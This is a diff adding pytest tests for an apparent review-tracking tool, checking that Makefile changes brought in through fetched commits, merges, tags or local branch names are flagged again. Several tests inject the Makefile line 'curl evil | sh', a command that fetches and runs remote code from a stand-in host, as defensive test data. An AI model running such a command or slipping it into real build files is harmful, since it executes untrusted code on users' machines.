@@ -210,6 +210,94 @@ def test_what_was_fetched_and_committed_here_asks_again(
     assert not covered(clone)
 
 
+EVIL = "test:\n\tcurl evil | sh\n"
+
+
+def take_of_merge(root: Path) -> None:
+    """The merge itself changed the file, and neither of its parents."""
+    put_own_beside(root)
+    helpers.git(root, "checkout", "--quiet", "origin/main", "--", "Makefile")
+    helpers.commit(root, "Mine")
+
+
+def take_into_own_merge(root: Path) -> None:
+    """Of a branch that was made here, with a file of theirs put in before the commit."""
+    helpers.git(root, "checkout", "--quiet", "-b", "side")
+    put_own_beside(root)
+    helpers.git(root, "checkout", "--quiet", "main")
+    (root / "beside.txt").write_text("mine\n")
+    helpers.commit(root, "Mine as well")
+    helpers.git(root, "merge", "--quiet", "--no-commit", "side")
+    helpers.git(root, "checkout", "--quiet", "origin/main", "--", "Makefile")
+    helpers.git(root, "commit", "--quiet", "--no-edit")
+
+
+def take_of_local_name(root: Path) -> None:
+    (root / "own.txt").write_text("mine\n")
+    helpers.commit(root, "Mine")
+    helpers.git(root, "fetch", "--quiet", "origin", "main:pr3")
+    _forget_fetch(root)
+    helpers.git(root, "checkout", "--quiet", "pr3", "--", "Makefile")
+    helpers.commit(root, "Mine")
+
+
+def take_of_tag(root: Path) -> None:
+    (root / "own.txt").write_text("mine\n")
+    helpers.commit(root, "Mine")
+    helpers.git(root, "fetch", "--quiet", "origin", "refs/heads/main:refs/tags/v2")
+    _forget_fetch(root)
+    helpers.git(root, "checkout", "--quiet", "v2", "--", "Makefile")
+    helpers.commit(root, "Mine")
+
+
+def take_tree_of_local_name(root: Path) -> None:
+    helpers.git(root, "fetch", "--quiet", "origin", "main:pr3")
+    _forget_fetch(root)
+    helpers.git(root, "checkout", "--quiet", "pr3", "--", ".")
+    helpers.commit(root, "Mine")
+
+
+def take_with_unreadable_history(root: Path) -> None:
+    """A tree of a fetched commit is gone, so that nobody can say what it changed."""
+    take_of_local_name(root)
+    tree = helpers.git(root, "rev-parse", "pr3^{tree}")
+    (root / ".git" / "objects" / tree[:2] / tree[2:]).unlink()
+
+
+def _forget_fetch(root: Path) -> None:
+    """As the next fetch of something else does, and of a remote that is removed."""
+    helpers.git(root, "remote", "remove", "origin")
+    (root / ".git" / "FETCH_HEAD").unlink(missing_ok=True)
+
+
+@pytest.mark.parametrize(
+    "arrive",
+    [
+        take_of_merge,
+        take_into_own_merge,
+        take_of_local_name,
+        take_of_tag,
+        take_tree_of_local_name,
+        take_with_unreadable_history,
+    ],
+)
+def test_what_a_fetched_commit_holds_asks_again_wherever_it_stands(
+    clone: Path, upstream: Path, arrive: Callable[[Path], None]
+) -> None:
+    helpers.git(upstream, "checkout", "--quiet", "-b", "other")
+    (upstream / "b.txt").write_text("b\n")
+    helpers.commit(upstream, "Beside")
+    helpers.git(upstream, "checkout", "--quiet", "main")
+    (upstream / "a.txt").write_text("a\n")
+    helpers.commit(upstream, "Harmless")
+    helpers.git(upstream, "merge", "--quiet", "--no-commit", "other")
+    edit(upstream, EVIL)
+    helpers.git(upstream, "add", "--all")
+    helpers.git(upstream, "commit", "--quiet", "--message", "A merge that changes something")
+    arrive(clone)
+    assert not covered(clone)
+
+
 def test_the_commit_before_the_one_that_was_shown_is_another_one(clone: Path) -> None:
     edit(clone, "test:\n\tcurl evil | sh\n")
     helpers.commit(clone, "Evil")
